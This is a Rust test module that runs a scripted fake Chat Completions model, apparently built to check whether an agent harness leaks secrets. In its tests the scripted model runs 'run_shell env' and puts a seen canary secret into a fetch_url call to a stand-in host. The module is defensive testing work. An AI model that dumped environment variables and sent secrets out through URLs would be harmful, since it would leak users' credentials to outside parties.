//! A model that follows its script literally, and repeats in its answer every secret that it has seen.
//!
//! It uses Chat Completions. The last request contains the whole conversation, so the model's input is known
//! exactly.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::Result;
use serde_json::{Value, json};

use super::http::{HERE, Reply, Request, Server};

/// The placeholder in a call for the first secret that the model has seen.
pub(crate) const SEEN: &str = "{{SEEN}}";

/// A tool call. Its id begins with its label, so that outputs can be told apart.
#[derive(Debug, Clone)]
pub(crate) struct Call {
    pub(crate) label: &'static str,
    pub(crate) name: &'static str,
    pub(crate) arguments: Value,
}

/// An output that the model got.
#[derive(Debug)]
pub(crate) struct Output {
    /// The label of its call, and the turn of the script that made it.
    pub(crate) label: String,
    pub(crate) turn: usize,
    /// The tool and its subject: a command, a path, an address.
    pub(crate) call: String,
    pub(crate) text: String,
}

/// The model. Dropping it stops it.
pub(crate) struct ScriptedModel {
    server: Server,
    messages: Arc<Mutex<Vec<Value>>>,
}

impl ScriptedModel {
    /// A model with these turns, each of one or more calls; then it answers.
    pub(crate) fn start(turns: Vec<Vec<Call>>, secrets: Vec<String>) -> Result<Self> {
        let messages = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&messages);
        let server = Server::start(HERE, move |request| answer(request, &turns, &secrets, &kept))?;
        Ok(Self { server, messages })
    }

    pub(crate) fn url(&self) -> String {
        format!("http://{}/v1", self.server.address())
    }

    /// The current turn, from 0: the calls of the last answer.
    pub(crate) fn turn(&self) -> usize {
        let messages = self.messages.lock().unwrap_or_else(PoisonError::into_inner);
        answers(&messages)
    }

    /// The outputs that the model got, in the order of the calls.
    pub(crate) fn outputs(&self) -> Vec<Output> {
        let messages = self.messages.lock().unwrap_or_else(PoisonError::into_inner);
        let made = messages.iter().filter_map(|message| message["tool_calls"].as_array()).flatten();
        let calls: BTreeMap<&str, String> =
            made.map(|call| (id(&call["id"]), describe(&call["function"]))).collect();
        messages
            .iter()
            .filter(|message| message["role"] == "tool")
            .map(|message| output(message, &calls))
            .collect()
    }
}

fn id(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

fn describe(function: &Value) -> String {
    let arguments = function["arguments"].as_str().unwrap_or_default();
    let arguments: Value = serde_json::from_str(arguments).unwrap_or_default();
    let objects = ["command", "path", "url", "pattern"].map(|name| arguments[name].as_str());
    let object = objects.into_iter().flatten().next().unwrap_or_default();
    format!("{} {object}", id(&function["name"]))
}

fn output(message: &Value, calls: &BTreeMap<&str, String>) -> Output {
    let id = id(&message["tool_call_id"]);
    let mut parts = id.split('-');
    let label = parts.next().unwrap_or_default().to_owned();
    let turn = parts.next().and_then(|turn| turn.parse().ok()).unwrap_or_default();
    let text = match &message["content"] {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    };
    Output { label, turn, call: calls.get(id).cloned().unwrap_or_default(), text }
}

fn answer(request: &Request, turns: &[Vec<Call>], secrets: &[String], kept: &Mutex<Vec<Value>>) -> Reply {
    let Ok(body) = serde_json::from_slice::<Value>(&request.body) else {
        return Reply { status: "404 Not Found", kind: "application/json", body: "{}".into() };
    };
    let messages = body["messages"].as_array().cloned().unwrap_or_default();
    let told: String =
        messages.iter().filter(|message| message["role"] == "tool").map(Value::to_string).collect();
    let seen: Vec<&str> = secrets.iter().map(String::as_str).filter(|secret| told.contains(secret)).collect();
    let at = answers(&messages);
    let turn = body["tools"].is_array().then(|| turns.get(at)).flatten();
    // A request without tools is not part of the conversation.
    if body["tools"].is_array() {
        *kept.lock().unwrap_or_else(PoisonError::into_inner) = messages;
    }
    let delta = match turn {
        Some(calls) => {
            json!({"role": "assistant", "tool_calls": tool_calls(calls, at, seen.first().copied())})
        }
        None => json!({"role": "assistant", "content": format!("Done. {}", seen.join(" "))}),
    };
    let reason = if turn.is_some() { "tool_calls" } else { "stop" };
    if body["stream"] == true { stream(&delta, reason) } else { whole(&delta, reason) }
}

fn answers(messages: &[Value]) -> usize {
    messages.iter().filter(|message| message["role"] == "assistant").count()
}

fn tool_calls(calls: &[Call], turn: usize, seen: Option<&str>) -> Vec<Value> {
    let call = |(index, call): (usize, &Call)| {
        let arguments = call.arguments.to_string().replace(SEEN, seen.unwrap_or("nothing"));
        let id = format!("{}-{turn}-{index}", call.label);
        json!({"index": index, "id": id, "type": "function", "function": {"name": call.name, "arguments": arguments}})
    };
    calls.iter().enumerate().map(call).collect()
}

fn usage() -> Value {
    json!({"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2})
}

fn stream(delta: &Value, reason: &str) -> Reply {
    let chunk = |choices: Value| json!({"id": "c", "object": "chat.completion.chunk", "choices": choices});
    let mut last = chunk(json!([]));
    last["usage"] = usage();
    let chunks = [
        chunk(json!([{"index": 0, "delta": delta, "finish_reason": null}])),
        chunk(json!([{"index": 0, "delta": {}, "finish_reason": reason}])),
        last,
    ];
    let body = chunks.map(|chunk| format!("data: {chunk}\n\n")).concat() + "data: [DONE]\n\n";
    Reply { status: "200 OK", kind: "text/event-stream", body: body.into_bytes() }
}

fn whole(message: &Value, reason: &str) -> Reply {
    let choices = json!([{"index": 0, "message": message, "finish_reason": reason}]);
    let body = json!({"id": "c", "object": "chat.completion", "choices": choices, "usage": usage()});
    Reply { status: "200 OK", kind: "application/json", body: body.to_string().into_bytes() }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &str = "CANARY_1";

    fn ask(messages: &Value, kept: &Mutex<Vec<Value>>) -> Value {
        let body = json!({"messages": messages, "tools": []}).to_string().into_bytes();
        let request = Request { head: String::new(), body };
        let send =
            Call { label: "send", name: "fetch_url", arguments: json!({"url": format!("http://a/{SEEN}")}) };
        let reply = answer(&request, &[vec![], vec![send]], &[SECRET.to_owned()], kept);
        serde_json::from_slice::<Value>(&reply.body).unwrap()["choices"][0]["message"].take()
    }

    fn conversation(answers: usize, output: &str) -> Value {
        let mut messages = vec![json!({"role": "assistant"}); answers];
        messages.push(json!({"role": "tool", "tool_call_id": "literal-0-0", "content": output}));
        json!(messages)
    }

    #[test]
    fn a_call_carries_the_secret_that_the_model_saw_and_nothing_when_it_saw_none() {
        let url = |output: &str| {
            let message = ask(&conversation(1, output), &Mutex::default());
            message["tool_calls"][0]["function"]["arguments"].to_string()
        };
        assert!(url(&format!("KEY={SECRET}")).contains(SECRET));
        assert!(url("KEY=[hidden]").contains("nothing"));
    }

    #[test]
    fn the_answer_repeats_seen_secrets_and_outputs_know_their_calls() {
        let kept = Mutex::default();
        let message = ask(&conversation(2, SECRET), &kept);
        assert_eq!(message["content"], format!("Done. {SECRET}"));
        let messages = kept.into_inner().unwrap();
        let told =
            output(messages.last().unwrap(), &BTreeMap::from([("literal-0-0", "run_shell env".to_owned())]));
        assert_eq!(
            (&*told.label, told.turn, &*told.call, &*told.text),
            ("literal", 0, "run_shell env", SECRET)
        );
    }
}
